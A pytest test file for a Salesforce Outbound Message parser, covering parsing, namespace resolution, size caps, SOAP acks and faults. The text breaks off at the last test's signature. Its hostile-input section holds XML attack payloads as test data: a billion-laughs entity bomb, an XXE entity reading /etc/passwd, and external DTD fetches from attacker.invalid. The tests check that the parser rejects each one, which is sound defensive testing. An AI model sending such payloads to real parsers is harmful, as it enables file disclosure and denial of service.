"""Salesforce Outbound Message parser, acknowledgement and fault tests."""

# The reference fixtures are copied verbatim, long lines included.
# ruff: noqa: E501

import contextlib
import time

import pytest
from defusedxml.ElementTree import fromstring
from hypothesis import given, settings
from hypothesis import strategies as st
from support.reference import SALESFORCE_OUTBOUND_MESSAGE, SALESFORCE_SESSION_ID

from syncgate.platforms.salesforce.outbound_message import (
    ACK_RESPONSE,
    MAX_NOTIFICATIONS,
    SUPPORTED_OBJECT_TYPES,
    MalformedMessage,
    Notification,
    OutboundMessage,
    organization_id_hint,
    organization_matches,
    parse_outbound_message,
    soap_fault,
)

SOAPENV = "http://schemas.xmlsoap.org/soap/envelope/"
OUTBOUND = "http://soap.sforce.com/2005/09/outbound"


# Verbatim from reference/salesforce.md §1.5.
REFERENCE_ACK = """\
<?xml version="1.0" encoding="UTF-8"?>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
 <soapenv:Body>
  <notificationsResponse xmlns="http://soap.sforce.com/2005/09/outbound">
   <Ack>true</Ack>
  </notificationsResponse>
 </soapenv:Body>
</soapenv:Envelope>"""

LEAD_MESSAGE = """\
<?xml version="1.0" encoding="UTF-8"?>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
 <soapenv:Body>
  <notifications xmlns="http://soap.sforce.com/2005/09/outbound">
   <OrganizationId>00D5e000000KQ2eEAG</OrganizationId>
   <ActionId>04k5e000000TfbZAAS</ActionId>
   <SessionId xsi:nil="true"/>
   <EnterpriseUrl>https://acme.my.salesforce.com/services/Soap/c/59.0/00D5e000000KQ2e</EnterpriseUrl>
   <PartnerUrl>https://acme.my.salesforce.com/services/Soap/u/59.0/00D5e000000KQ2e</PartnerUrl>
   <Notification>
    <Id>04l5e00000ABCDEAA1</Id>
    <sObject xsi:type="sf:Lead" xmlns:sf="urn:sobject.enterprise.soap.sforce.com">
     <sf:Id>00Q5e00000XyZabEAB</sf:Id>
     <sf:Company>Acme &amp; Sons</sf:Company>
     <sf:CreatedDate>2024-03-01T10:00:00.000Z</sf:CreatedDate>
     <sf:Email>ada@example.com</sf:Email>
     <sf:FirstName>Ada</sf:FirstName>
     <sf:HasOptedOutOfEmail>false</sf:HasOptedOutOfEmail>
     <sf:LastModifiedDate>2024-03-01T10:00:00.000Z</sf:LastModifiedDate>
     <sf:LastName>Lovelace</sf:LastName>
     <sf:Phone xsi:nil="true"/>
     <sf:Status>Open - Not Contacted</sf:Status>
     <sf:Title></sf:Title>
    </sObject>
   </Notification>
  </notifications>
 </soapenv:Body>
</soapenv:Envelope>"""


def _notification(
    index: int = 0, *, object_type: str = "sf:Contact", fields: str | None = None
) -> str:
    if fields is None:
        fields = f"<sf:Id>003000000000{index:03d}AAA</sf:Id><sf:LastName>N{index}</sf:LastName>"
    return (
        f"<Notification><Id>04l000000000{index:03d}AAA</Id>"
        f'<sObject xsi:type="{object_type}" xmlns:sf="urn:sobject.enterprise.soap.sforce.com">'
        f"{fields}</sObject></Notification>"
    )


def _message(
    notifications: str | None = None,
    *,
    header: str = "<OrganizationId>00D000000000001AAA</OrganizationId>",
    notifications_ns: str = OUTBOUND,
    envelope_ns: str = SOAPENV,
) -> bytes:
    if notifications is None:
        notifications = _notification()
    return (
        f'<soapenv:Envelope xmlns:soapenv="{envelope_ns}"'
        ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
        f'<soapenv:Body><notifications xmlns="{notifications_ns}">'
        f"{header}{notifications}</notifications></soapenv:Body></soapenv:Envelope>"
    ).encode()


# --- the real message ---------------------------------------------------------------------


def test_real_message_parses_every_envelope_value() -> None:
    message = parse_outbound_message(SALESFORCE_OUTBOUND_MESSAGE.encode())

    assert message.organization_id == "012345678901234"
    assert len(message.organization_id) == 15
    assert message.action_id == "04k1I000000bmsHQAQ"
    assert message.session_id == SALESFORCE_SESSION_ID
    assert message.enterprise_url == (
        "https://na73.salesforce.com/services/Soap/c/41.0/00D1I000003qqqE"
    )
    assert message.partner_url == "https://na73.salesforce.com/services/Soap/u/41.0/00D1I000003qqqE"
    assert len(message.notifications) == 2


def test_real_message_parses_both_notifications_field_by_field() -> None:
    message = parse_outbound_message(SALESFORCE_OUTBOUND_MESSAGE.encode())

    assert message.notifications == [
        Notification(
            id="04l1I000000fztEQAQ",
            object_type="Contact",
            record_id="0031I0000081tbPQAQ",
            fields={
                "Id": "0031I0000081tbPQAQ",
                "CreatedDate": "2017-12-11T21:49:24.000Z",
                "FirstName": "Jeraldine",
                "LastName": "Black",
                "Title": "White",
            },
        ),
        Notification(
            id="04l1I000000fzt9QAA",
            object_type="Contact",
            record_id="0031I0000081tb0QAA",
            fields={
                "Id": "0031I0000081tb0QAA",
                "CreatedDate": "2017-12-11T21:44:55.000Z",
                "Email": "doug.bunting@example.com",
                "FirstName": "Doug",
                "LastName": "Bunting",
                "Title": "Supreme Being",
            },
        ),
    ]


def test_absent_field_is_absent_not_invented() -> None:
    first = parse_outbound_message(SALESFORCE_OUTBOUND_MESSAGE.encode()).notifications[0]

    assert "Email" not in first.fields
    assert "LastModifiedDate" not in first.fields


def test_field_order_follows_document_order() -> None:
    second = parse_outbound_message(SALESFORCE_OUTBOUND_MESSAGE.encode()).notifications[1]

    assert list(second.fields) == ["Id", "CreatedDate", "Email", "FirstName", "LastName", "Title"]


def test_parsed_message_is_frozen() -> None:
    message = parse_outbound_message(SALESFORCE_OUTBOUND_MESSAGE.encode())

    with pytest.raises(AttributeError):
        message.organization_id = "x"  # type: ignore[misc]
    with pytest.raises(AttributeError):
        message.notifications[0].id = "x"  # type: ignore[misc]


# --- SessionId secrecy ----------------------------------------------------------------------


def test_session_id_never_in_repr_or_str() -> None:
    message = parse_outbound_message(SALESFORCE_OUTBOUND_MESSAGE.encode())

    assert message.session_id == SALESFORCE_SESSION_ID
    assert SALESFORCE_SESSION_ID not in repr(message)
    assert SALESFORCE_SESSION_ID not in str(message)
    assert "AQsAQOjGFnFJzGPA" not in f"{message!r} {message!s} {message}"
    assert "session_id" not in repr(message)


def test_session_id_nil_is_none() -> None:
    message = parse_outbound_message(LEAD_MESSAGE.encode())

    assert message.session_id is None


def test_session_id_absent_is_none() -> None:
    message = parse_outbound_message(_message())

    assert message.session_id is None
    assert message.action_id is None
    assert message.enterprise_url is None
    assert message.partner_url is None


# --- Lead, nil and empty fields -------------------------------------------------------------


def test_lead_message_parses_with_type_lead_and_dates() -> None:
    message = parse_outbound_message(LEAD_MESSAGE.encode())

    assert message.organization_id == "00D5e000000KQ2eEAG"
    assert message.action_id == "04k5e000000TfbZAAS"
    (notification,) = message.notifications
    assert notification.id == "04l5e00000ABCDEAA1"
    assert notification.object_type == "Lead"
    assert notification.record_id == "00Q5e00000XyZabEAB"
    assert notification.fields["Company"] == "Acme & Sons"
    assert notification.fields["CreatedDate"] == "2024-03-01T10:00:00.000Z"
    assert notification.fields["LastModifiedDate"] == "2024-03-01T10:00:00.000Z"
    assert notification.fields["HasOptedOutOfEmail"] == "false"
    assert notification.fields["Status"] == "Open - Not Contacted"


def test_nil_field_is_none_and_present() -> None:
    (notification,) = parse_outbound_message(LEAD_MESSAGE.encode()).notifications

    assert "Phone" in notification.fields
    assert notification.fields["Phone"] is None


def test_empty_field_is_empty_string_not_none() -> None:
    (notification,) = parse_outbound_message(LEAD_MESSAGE.encode()).notifications

    assert notification.fields["Title"] == ""


def test_nil_accepts_xsd_boolean_one_and_ignores_false() -> None:
    fields = (
        "<sf:Id>003000000000001AAA</sf:Id>"
        '<sf:Phone xsi:nil="1"/><sf:Email xsi:nil="false">a@example.com</sf:Email>'
    )
    (notification,) = parse_outbound_message(_message(_notification(fields=fields))).notifications

    assert notification.fields["Phone"] is None
    assert notification.fields["Email"] == "a@example.com"


def test_field_values_are_kept_verbatim_including_whitespace() -> None:
    fields = "<sf:Id>003000000000001AAA</sf:Id><sf:Description>  two\nlines </sf:Description>"
    (notification,) = parse_outbound_message(_message(_notification(fields=fields))).notifications

    assert notification.fields["Description"] == "  two\nlines "


def test_supported_object_types_are_lead_and_contact() -> None:
    assert frozenset({"Lead", "Contact"}) == SUPPORTED_OBJECT_TYPES


def test_other_object_type_is_parsed_with_its_raw_type_for_the_caller_to_ignore() -> None:
    fields = "<sf:Id>006000000000001AAA</sf:Id><sf:StageName>Closed Won</sf:StageName>"
    message = parse_outbound_message(
        _message(_notification(object_type="sf:Opportunity", fields=fields))
    )

    (notification,) = message.notifications
    assert notification.object_type == "Opportunity"
    assert notification.object_type not in SUPPORTED_OBJECT_TYPES
    assert notification.fields == {"Id": "006000000000001AAA", "StageName": "Closed Won"}


# --- namespace prefixes ---------------------------------------------------------------------


def test_any_namespace_prefixes_are_resolved() -> None:
    body = b"""<?xml version="1.0"?>
<S:Envelope xmlns:S="http://schemas.xmlsoap.org/soap/envelope/">
 <S:Header/>
 <S:Body>
  <out:notifications xmlns:out="http://soap.sforce.com/2005/09/outbound"
                     xmlns:i="http://www.w3.org/2001/XMLSchema-instance"
                     xmlns:ens="urn:sobject.enterprise.soap.sforce.com">
   <out:OrganizationId>00D000000000001AAA</out:OrganizationId>
   <out:SessionId i:nil="true"/>
   <out:Notification>
    <out:Id>04l000000000001AAA</out:Id>
    <out:sObject i:type="ens:Contact">
     <ens:Id>003000000000001AAA</ens:Id>
     <x:Email xmlns:x="urn:sobject.enterprise.soap.sforce.com">a@example.com</x:Email>
     <ens:Phone i:nil="true"/>
    </out:sObject>
   </out:Notification>
  </out:notifications>
 </S:Body>
</S:Envelope>"""
    message = parse_outbound_message(body)

    assert message.session_id is None
    (notification,) = message.notifications
    assert notification.object_type == "Contact"
    assert notification.fields == {
        "Id": "003000000000001AAA",
        "Email": "a@example.com",
        "Phone": None,
    }


def test_xsi_type_prefix_resolves_against_the_innermost_binding() -> None:
    # "sf" is rebound on the sObject itself; the outer binding must not be used.
    body = _message(_notification()).replace(
        b"<soapenv:Envelope ", b'<soapenv:Envelope xmlns:sf="urn:example:other" '
    )

    (notification,) = parse_outbound_message(body).notifications
    assert notification.object_type == "Contact"


def test_xsi_type_prefix_declared_on_an_ancestor_is_resolved() -> None:
    body = _message(
        "<Notification><Id>04l000000000001AAA</Id>"
        '<sObject xsi:type="q:Lead"><q:Id>00Q000000000001AAA</q:Id></sObject></Notification>'
    ).replace(
        b"<soapenv:Envelope ",
        b'<soapenv:Envelope xmlns:q="urn:sobject.enterprise.soap.sforce.com" ',
    )

    (notification,) = parse_outbound_message(body).notifications
    assert notification.object_type == "Lead"
    assert notification.record_id == "00Q000000000001AAA"


def test_unprefixed_xsi_type_is_taken_by_local_name() -> None:
    (notification,) = parse_outbound_message(
        _message(_notification(object_type="Contact"))
    ).notifications

    assert notification.object_type == "Contact"


def test_xsi_type_with_unbound_prefix_is_malformed() -> None:
    with pytest.raises(MalformedMessage, match="not bound"):
        parse_outbound_message(_message(_notification(object_type="nope:Contact")))


def test_xsi_type_in_a_foreign_namespace_is_malformed() -> None:
    body = _message(_notification(object_type="xsd:Contact")).replace(
        b"<soapenv:Envelope ", b'<soapenv:Envelope xmlns:xsd="http://www.w3.org/2001/XMLSchema" '
    )

    with pytest.raises(MalformedMessage, match="xsi:type namespace"):
        parse_outbound_message(body)


def test_sobject_without_xsi_type_is_malformed() -> None:
    body = _message(
        "<Notification><Id>04l000000000001AAA</Id>"
        "<sObject><Id>003000000000001AAA</Id></sObject></Notification>"
    )

    with pytest.raises(MalformedMessage, match="missing xsi:type"):
        parse_outbound_message(body)


# --- structure ------------------------------------------------------------------------------


def test_exactly_max_notifications_is_accepted() -> None:
    notifications = "".join(_notification(i) for i in range(MAX_NOTIFICATIONS))

    message = parse_outbound_message(_message(notifications))

    assert MAX_NOTIFICATIONS == 100
    assert len(message.notifications) == 100
    assert message.notifications[99].record_id == "003000000000099AAA"


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        pytest.param(
            _message(header="<ActionId>04k000000000001AAA</ActionId>"),
            "OrganizationId is missing",
            id="missing-organization-id",
        ),
        pytest.param(
            _message(header='<OrganizationId xsi:nil="true"/>'),
            "OrganizationId is missing",
            id="nil-organization-id",
        ),
        pytest.param(
            _message(header="<OrganizationId>00D-not-an-id</OrganizationId>"),
            "OrganizationId is not",
            id="organization-id-not-a-salesforce-id",
        ),
        pytest.param(
            _message(
                header="<OrganizationId>00D000000000001AAA</OrganizationId>"
                "<OrganizationId>00D000000000002AAA</OrganizationId>"
            ),
            "more than one OrganizationId",
            id="duplicate-organization-id",
        ),
        pytest.param(_message(""), "no Notification", id="zero-notifications"),
        pytest.param(
            _message(
                '<Notification><sObject xsi:type="sf:Contact" '
                'xmlns:sf="urn:sobject.enterprise.soap.sforce.com">'
                "<sf:Id>003000000000001AAA</sf:Id></sObject></Notification>"
            ),
            "Notification #1 Id is missing",
            id="notification-without-id",
        ),
        pytest.param(
            _message("<Notification><Id>04l000000000001AAA</Id></Notification>"),
            "Notification #1 has no sObject",
            id="notification-without-sobject",
        ),
        pytest.param(
            _message(_notification(fields="<sf:LastName>X</sf:LastName>")),
            "Notification #1 sObject has no Id",
            id="sobject-without-id",
        ),
        pytest.param(
            _message(_notification(fields='<sf:Id xsi:nil="true"/>')),
            "Notification #1 sObject has no Id",
            id="sobject-id-nil",
        ),
        pytest.param(
            _message(_notification(fields="<sf:Id>../../x</sf:Id>")),
            "sObject Id is not a Salesforce id",
            id="sobject-id-not-a-salesforce-id",
        ),
        pytest.param(
            _message(
                _notification(
                    fields="<sf:Id>003000000000001AAA</sf:Id><sf:Id>003000000000002AAA</sf:Id>"
                )
            ),
            "field 'Id' more than once",
            id="duplicate-field",
        ),
        pytest.param(
            _message(
                _notification(
                    fields="<sf:Id>003000000000001AAA</sf:Id>"
                    "<sf:MailingAddress><sf:city>X</sf:city></sf:MailingAddress>"
                )
            ),
            "child elements",
            id="structured-field-value",
        ),
        pytest.param(
            _message(_notification(0) + _notification(1).replace("<Id>", "<Id>x", 1)),
            "Notification #2 Id is not",
            id="second-notification-bad-id",
        ),
        pytest.param(
            f'<soapenv:Envelope xmlns:soapenv="{SOAPENV}"><soapenv:Header/></soapenv:Envelope>'.encode(),
            "0 soapenv:Body",
            id="no-body",
        ),
        pytest.param(
            f'<soapenv:Envelope xmlns:soapenv="{SOAPENV}"><soapenv:Body>'
            "<somethingElse/></soapenv:Body></soapenv:Envelope>".encode(),
            "does not contain a notifications",
            id="body-without-notifications",
        ),
    ],
)
def test_structurally_invalid_message_is_malformed(body: bytes, reason: str) -> None:
    with pytest.raises(MalformedMessage, match=reason):
        parse_outbound_message(body)


def test_malformed_message_carries_its_reason() -> None:
    with pytest.raises(MalformedMessage) as excinfo:
        parse_outbound_message(_message(""))

    assert excinfo.value.reason == "notifications contains no Notification"
    assert str(excinfo.value) == excinfo.value.reason


def test_reason_never_echoes_the_session_id() -> None:
    body = SALESFORCE_OUTBOUND_MESSAGE.replace("<Id>04l1I000000fztEQAQ</Id>", "").encode()

    with pytest.raises(MalformedMessage) as excinfo:
        parse_outbound_message(body)

    assert SALESFORCE_SESSION_ID not in str(excinfo.value)


# --- hostile input --------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">
 <soapenv:Body><notifications xmlns="http://soap.sforce.com/2005/09/outbound">
  <OrganizationId>&lol9;</OrganizationId>
 </notifications></soapenv:Body>
</soapenv:Envelope>"""

XXE_FILE = SALESFORCE_OUTBOUND_MESSAGE.replace(
    "<soapenv:Envelope ",
    '<?xml version="1.0"?>\n<!DOCTYPE soapenv:Envelope [\n'
    ' <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<soapenv:Envelope ',
    1,
).replace("<sf:Title>White</sf:Title>", "<sf:Title>&xxe;</sf:Title>")

EXTERNAL_DTD = (
    '<?xml version="1.0"?>\n'
    '<!DOCTYPE soapenv:Envelope SYSTEM "http://attacker.invalid/evil.dtd">\n'
    + SALESFORCE_OUTBOUND_MESSAGE
)

PARAMETER_ENTITY = (
    '<?xml version="1.0"?>\n<!DOCTYPE x [\n <!ENTITY % remote SYSTEM '
    '"http://attacker.invalid/x.dtd">\n %remote;\n]>\n' + SALESFORCE_OUTBOUND_MESSAGE
)

HOSTILE_BODIES = [
    pytest.param(BILLION_LAUGHS, "DTD", id="billion-laughs-entity-bomb"),
    pytest.param(XXE_FILE.encode(), "DTD", id="xxe-external-entity-file-etc-passwd"),
    pytest.param(EXTERNAL_DTD.encode(), "DTD", id="external-dtd"),
    pytest.param(PARAMETER_ENTITY.encode(), "DTD", id="external-parameter-entity"),
    pytest.param(
        SALESFORCE_OUTBOUND_MESSAGE.replace("White", "&undefined;").encode(),
        "not well-formed",
        id="undefined-entity-reference",
    ),
    pytest.param(
        SALESFORCE_OUTBOUND_MESSAGE.replace(
            SOAPENV, "http://www.w3.org/2003/05/soap-envelope"
        ).encode(),
        "Envelope namespace",
        id="wrong-envelope-namespace-soap12",
    ),
    pytest.param(_message(envelope_ns="urn:not-soap"), "Envelope namespace", id="wrong-envelope"),
    pytest.param(
        SALESFORCE_OUTBOUND_MESSAGE.replace(
            OUTBOUND, "http://soap.sforce.com/2005/09/inbound"
        ).encode(),
        "notifications namespace",
        id="wrong-notifications-namespace",
    ),
    pytest.param(_message(notifications_ns=""), "notifications namespace", id="no-ns"),
    pytest.param(
        b'{"OrganizationId": "012345678901234", "Notification": []}', "not well-formed", id="json"
    ),
    pytest.param(b"", "not well-formed", id="empty-body"),
    pytest.param(b"   \n\t ", "not well-formed", id="whitespace-body"),
    pytest.param(
        SALESFORCE_OUTBOUND_MESSAGE[: len(SALESFORCE_OUTBOUND_MESSAGE) // 2].encode(),
        "not well-formed",
        id="truncated",
    ),
    pytest.param(
        _message("".join(_notification(i) for i in range(MAX_NOTIFICATIONS + 1))),
        "more than 100 Notification",
        id="101-notifications",
    ),
    pytest.param(bytes(range(256)) * 4, "not well-formed", id="non-utf8-garbage"),
    pytest.param(
        SALESFORCE_OUTBOUND_MESSAGE.replace("Jeraldine", "J\udcffraldine").encode(
            "utf-8", "surrogateescape"
        ),
        "not well-formed",
        id="invalid-utf8-inside-valid-xml",
    ),
    pytest.param(
        b'<?xml version="1.0" encoding="x-no-such-codec"?><a/>', "unreadable", id="unknown-codec"
    ),
    pytest.param(b"<a>" * 100_000 + b"</a>" * 100_000, "nested deeper", id="deep-nesting-root"),
    pytest.param(
        SALESFORCE_OUTBOUND_MESSAGE.replace(
            "<sf:Title>White</sf:Title>",
            "<sf:Title>" + "<x>" * 100_000 + "</x>" * 100_000 + "</sf:Title>",
        ).encode(),
        "nested deeper",
        id="deep-nesting-inside-field",
    ),
    pytest.param(b"<" + b"a" * 5_000_000 + b"/>", "longer than 65536", id="huge-single-token"),
    pytest.param(
        # Elements each declaring namespaces: when every one copied the scope, one megabyte of
        # this took seconds of CPU.
        (
            '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">'
            + "<soapenv:Body>"
            + ("<b" + "".join(f' xmlns:a{n}="u"' for n in range(20)) + "/>") * 3_000
            + "</soapenv:Body></soapenv:Envelope>"
        ).encode(),
        "namespace declarations",
        id="namespace-declaration-bomb",
    ),
    pytest.param(
        # One start tag of thousands of attributes: expat handles a tag in one call.
        (
            '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"'
            + "".join(f' a{n}="u"' for n in range(35_000))
            + "/>"
        ).encode(),
        "longer than 65536",
        id="crowded-start-tag",
    ),
    pytest.param(b"<!--" + b"x" * 100_000 + b"--><a/>", "longer than 65536", id="long-comment"),
    pytest.param(b"<?xml version='1.0'?><!-- only a comment -->", "not well-formed", id="no-root"),
]


@pytest.mark.parametrize(("body", "reason"), HOSTILE_BODIES)
def test_hostile_input_raises_malformed_quickly(body: bytes, reason: str) -> None:
    started = time.monotonic()

    with pytest.raises(MalformedMessage, match=reason):
        parse_outbound_message(body)

    assert time.monotonic() - started < 5


def _declaring(declarations: int) -> bytes:
    """The reference message with `declarations` namespace declarations in all (it has six:
    soapenv, xsd, xsi, the default one and sf in each of its two sObjects)."""
    unused = "".join(f' xmlns:p{n}="urn:unused:{n}"' for n in range(declarations - 6))
    return SALESFORCE_OUTBOUND_MESSAGE.replace(
        "<soapenv:Body>", f"<soapenv:Body{unused}>", 1
    ).encode()


def test_namespace_declarations_are_capped() -> None:
    assert parse_outbound_message(_declaring(1000)).organization_id == "012345678901234"
    with pytest.raises(MalformedMessage, match="more than 1000 namespace declarations"):
        parse_outbound_message(_declaring(1001))


def test_what_a_message_is_not_read_from_is_passed_over() -> None:
    junk = "<Junk>" + "<b>text</b>" * 1000 + "</Junk>"
    body = SALESFORCE_OUTBOUND_MESSAGE.replace("<ActionId>", junk + "<ActionId>")
    message = parse_outbound_message(body.encode())
    assert [n.id for n in message.notifications] == ["04l1I000000fztEQAQ", "04l1I000000fzt9QAA"]


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        pytest.param(
            SALESFORCE_OUTBOUND_MESSAGE.replace(
                "</soapenv:Body>", "</soapenv:Body><soapenv:Body/>"
            ),
            "Envelope has more than one soapenv:Body element",
            id="bodies",
        ),
        pytest.param(
            SALESFORCE_OUTBOUND_MESSAGE.replace(
                "</notifications>", "<ActionId>04k1I000000bmsHQAQ</ActionId></notifications>"
            ),
            "notifications contains more than one ActionId",
            id="singletons",
        ),
    ],
)
def test_repeated_elements_are_refused_as_they_arrive(body: str, reason: str) -> None:
    with pytest.raises(MalformedMessage, match=reason):
        parse_outbound_message(body.encode())


def test_a_long_text_value_is_not_a_long_token() -> None:
    description = "x" * 300_000  # a Long Text Area field holds up to 131,072 characters
    body = SALESFORCE_OUTBOUND_MESSAGE.replace("White", description)
    contact = parse_outbound_message(body.encode()).notifications[0]
    assert contact.fields["Title"] == description


def test_elements_passed_over_are_capped() -> None:
    def with_junk(count: int) -> bytes:
        junk = "<Junk>" + "<b/>" * (count - 1) + "</Junk>"
        return SALESFORCE_OUTBOUND_MESSAGE.replace("<ActionId>", junk + "<ActionId>").encode()

    assert len(parse_outbound_message(with_junk(10_000)).notifications) == 2
    with pytest.raises(MalformedMessage, match="more than 10000 elements that are not part of"):
        parse_outbound_message(with_junk(10_001))


def test_fields_are_capped() -> None:
    fields = "".join(f"<sf:F{n}>x</sf:F{n}>" for n in range(200))
    notifications = "".join(
        _notification(n, fields=f"<sf:Id>003000000000{n:03d}AAA</sf:Id>{fields}") for n in range(99)
    )
    assert len(parse_outbound_message(_message(notifications)).notifications) == 99
    with pytest.raises(MalformedMessage, match="more than 20000 fields"):
        parse_outbound_message(_message(notifications + _notification(99, fields=fields * 2)))


def test_a_namespace_goes_out_of_scope_with_its_element() -> None:
    sobject = '<sObject xsi:type="sf:Contact"{declaration}><sf:Id>003000000000{n:03d}AAA</sf:Id></sObject>'
    notifications = (
        "<Notification><Id>04l000000000001AAA</Id>"
        + sobject.format(declaration=' xmlns:sf="urn:sobject.enterprise.soap.sforce.com"', n=1)
        + "</Notification><Notification><Id>04l000000000002AAA</Id>"
        + sobject.format(declaration="", n=2)
        + "</Notification>"
    )
    body = _message(notifications).replace(
        b"<soapenv:Body>", b'<soapenv:Body xmlns:sf="urn:sobject.partner.soap.sforce.com">'
    )
    # Notification 1 shadows the outer sf; notification 2 sees the outer one again.
    with pytest.raises(MalformedMessage, match="Notification #2 sObject xsi:type namespace"):
        parse_outbound_message(body)


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        pytest.param(SALESFORCE_OUTBOUND_MESSAGE.encode(), "012345678901234", id="reference"),
        pytest.param(
            b'<o:OrganizationId xsi:type="x">\n 00D5e000000KQ2eEAG </o:OrganizationId>',
            "00D5e000000KQ2eEAG",
            id="prefixed-with-attributes",
        ),
        pytest.param(b"<OrganizationId>00D-not-an-id</OrganizationId>", None, id="not-an-id"),
        pytest.param(b"<OrganizationId>00D5e000000KQ2eEAGX<", None, id="too-long"),
        pytest.param(b"<a>" * 1000, None, id="absent"),
    ],
)
def test_the_organization_id_hint(body: bytes, expected: str | None) -> None:
    assert organization_id_hint(body) == expected


def test_xxe_never_reads_the_file() -> None:
    with pytest.raises(MalformedMessage) as excinfo:
        parse_outbound_message(XXE_FILE.encode())

    assert "root:" not in str(excinfo.value)


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=2_000))
def test_arbitrary_bytes_raise_only_malformed(body: bytes) -> None:
    with contextlib.suppress(MalformedMessage):
        parse_outbound_message(body)


@settings(max_examples=300, deadline=None)
@given(st.integers(min_value=0, max_value=len(SALESFORCE_OUTBOUND_MESSAGE)), st.binary(max_size=40))
def test_corrupted_real_message_parses_or_raises_only_malformed(at: int, junk: bytes) -> None:
    raw = SALESFORCE_OUTBOUND_MESSAGE.encode()
    try:
        message = parse_outbound_message(raw[:at] + junk + raw[at:])
    except MalformedMessage:
        return
    assert isinstance(message, OutboundMessage)


# --- acknowledgement and faults -------------------------------------------------------------


def test_ack_is_byte_identical_to_reference() -> None:
    assert REFERENCE_ACK.encode() == ACK_RESPONSE
    assert ACK_RESPONSE.startswith(b'<?xml version="1.0" encoding="UTF-8"?>\n')


def test_ack_is_a_well_formed_true_notifications_response() -> None:
    root = fromstring(ACK_RESPONSE, forbid_dtd=True)

    ack = root.find(f"{{{SOAPENV}}}Body/{{{OUTBOUND}}}notificationsResponse/{{{OUTBOUND}}}Ack")
    assert ack is not None
    assert ack.text == "true"


def _parse_fault(body: bytes) -> tuple[str | None, str | None, bool]:
    root = fromstring(body, forbid_dtd=True)
    assert root.tag == f"{{{SOAPENV}}}Envelope"
    fault = root.find(f"{{{SOAPENV}}}Body/{{{SOAPENV}}}Fault")
    assert fault is not None
    return (
        fault.findtext("faultcode"),
        fault.findtext("faultstring"),
        fault.find("detail") is not None,
    )


def test_fault_is_well_formed_with_client_faultcode_by_default() -> None:
    body = soap_fault("OrganizationId is not ours")

    assert body.startswith(b'<?xml version="1.0" encoding="UTF-8"?>')
    assert _parse_fault(body) == ("soapenv:Client", "OrganizationId is not ours", True)


def test_fault_server_faultcode() -> None:
    code, text, _ = _parse_fault(soap_fault("try again later", client_fault=False))

    assert code == "soapenv:Server"
    assert text == "try again later"


def test_fault_string_is_xml_escaped() -> None:
    hostile = "</faultstring><Ack>true</Ack> & \"quotes\" 'and' <![CDATA[x]]>"

    body = soap_fault(hostile)

    assert b"<Ack>" not in body
    assert b"&lt;/faultstring&gt;" in body
    assert _parse_fault(body)[1] == hostile


def test_fault_string_replaces_characters_xml_cannot_carry() -> None:
    body = soap_fault("nul\x00 bell\x07 surrogate\udc80 ok\u00e9\U0001f600")

    assert _parse_fault(body)[1] == "nul\ufffd bell\ufffd surrogate\ufffd ok\u00e9\U0001f600"


def test_fault_carries_a_malformed_reason() -> None:
    with pytest.raises(MalformedMessage) as excinfo:
        parse_outbound_message(b"<a")

    assert _parse_fault(soap_fault(excinfo.value.reason))[1] == excinfo.value.reason


# --- organization id ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("received", "ours", "expected"),
    [
        pytest.param("00D5e000000KQ2e", "00D5e000000KQ2e", True, id="15-vs-15"),
        pytest.param("00D5e000000KQ2eEAG", "00D5e000000KQ2e", True, id="18-vs-15"),
        pytest.param("00D5e000000KQ2e", "00D5e000000KQ2eEAG", True, id="15-vs-18"),
        pytest.param("00D5e000000KQ2eEAG", "00D5e000000KQ2eEAG", True, id="18-vs-18"),
        pytest.param("00D5e000000KQ2eAAA", "00D5e000000KQ2eEAG", True, id="checksum-ignored"),
        pytest.param("00D5e000000kq2e", "00D5e000000KQ2e", False, id="case-sensitive"),
        pytest.param("00D5e000000KQ2eEAG", "00D5e000000kq2eEAG", False, id="case-sensitive-18"),
        pytest.param("00D5e000000KQ2f", "00D5e000000KQ2e", False, id="wrong-org"),
        pytest.param("012345678901234", "00D5e000000KQ2eEAG", False, id="wrong-org-fixture"),
        pytest.param("00D5e000000KQ2", "00D5e000000KQ2", False, id="too-short"),
        pytest.param("", "", False, id="empty"),
        pytest.param("00D5e000000KQ2e", "", False, id="ours-unset"),
        pytest.param("00D5e000000KQ2é", "00D5e000000KQ2e", False, id="non-ascii"),
    ],
)
def test_organization_matches_on_first_15_characters_case_sensitively(
    received: str, ours: str, expected: bool
) -> None:
